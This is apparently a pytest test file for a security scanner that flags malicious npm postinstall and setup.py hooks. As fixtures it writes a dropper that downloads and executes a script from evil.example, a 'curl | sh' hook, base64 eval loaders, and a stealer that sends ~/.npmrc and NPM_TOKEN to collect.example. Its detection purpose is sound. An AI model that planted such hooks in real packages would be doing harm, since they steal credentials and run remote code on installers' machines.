"""Install-hook analysis on npm and PyPI packages written by the test (parsed, not grepped)."""

import json

from hostwarden.core.records import ecs_records
from hostwarden.scan.base import ScanContext
from hostwarden.scan.vuln import supply
from hostwarden.scan.vuln.scanner import VulnScanner

DROPPER = """
const https = require('https');
const { exec } = require('child_process');
https.get('https://evil.example/p.sh', (res) => { let b = ''; res.on('data', d => b += d);
  res.on('end', () => exec(b)); });
"""
DECODER = "const p = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString(); eval(p);"
STEALER = """
const fs = require('fs'); const os = require('os');
const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
fetch('https://collect.example', {method: 'POST', body: t + process.env.NPM_TOKEN});
"""
COMMENT_ONLY = "// require('child_process').exec(require('https').get(x))\nconsole.log('built');\n"
BENIGN = "const fs = require('fs'); fs.writeFileSync('out.txt', 'ok');"


def npm_pkg(root, name, hook, files=None):
    d = root / "app" / "node_modules" / name
    d.mkdir(parents=True)
    (d / "package.json").write_text(json.dumps({"name": name, "version": "1.0.0", "scripts": {"postinstall": hook}}))
    for fname, text in (files or {}).items():
        (d / fname).write_text(text)
    return d


def flagged(root):
    return {(r.package, tuple(sorted(r.capabilities))) for r in supply.scan_root(root)}


def test_npm_hooks(tmp_path):
    npm_pkg(tmp_path, "dropper", "node install.js", {"install.js": DROPPER})
    npm_pkg(tmp_path, "decoder", "node x.js", {"x.js": DECODER})
    npm_pkg(tmp_path, "stealer", "node s.js", {"s.js": STEALER})
    npm_pkg(tmp_path, "piped", "curl -s https://evil.example/i.sh | sh")
    npm_pkg(tmp_path, "commented", "node build.js", {"build.js": COMMENT_ONLY})
    npm_pkg(tmp_path, "benign", "node build.js && node-gyp rebuild", {"build.js": BENIGN})
    npm_pkg(tmp_path, "fetcher", "node dl.js", {"dl.js": "require('https').get('https://x/bin.tgz')"})
    got = flagged(tmp_path)
    assert got == {
        ("dropper", ("execute", "network")),
        ("decoder", ("decode", "execute")),
        ("stealer", ("credentials", "network")),
        ("piped", ("execute", "network")),
    }


def test_setup_py(tmp_path):
    evil = tmp_path / "src" / "evilpkg"
    evil.mkdir(parents=True)
    (evil / "setup.py").write_text(
        "import base64\nfrom setuptools import setup\n"
        "exec(base64.b64decode('cHJpbnQoMSk='))\nsetup(name='evilpkg')\n")
    ok = tmp_path / "src" / "okpkg"
    ok.mkdir(parents=True)
    (ok / "setup.py").write_text("from setuptools import setup\n# exec(base64.b64decode(x))\nsetup(name='okpkg')\n")
    broken = tmp_path / "src" / "broken"
    broken.mkdir(parents=True)
    (broken / "setup.py").write_text("def (:\n")
    assert flagged(tmp_path) == {("evilpkg", ("decode", "execute"))}


def test_scanner_reports_hooks_as_l1_findings(tmp_path):
    npm_pkg(tmp_path, "dropper", "node install.js", {"install.js": DROPPER})
    (tmp_path / "adv").mkdir()
    ctx = ScanContext(root=tmp_path, options={"advisories": str(tmp_path / "adv")})
    findings = [f for f in ecs_records(VulnScanner().scan(ctx)) if f["rule.id"] == "hostwarden.supply_chain.install_hook"]
    assert len(findings) == 1
    assert findings[0]["hostwarden.grade"] == "L1" and findings[0]["package.name"] == "dropper"
    assert "downloads and executes" in findings[0]["message"]
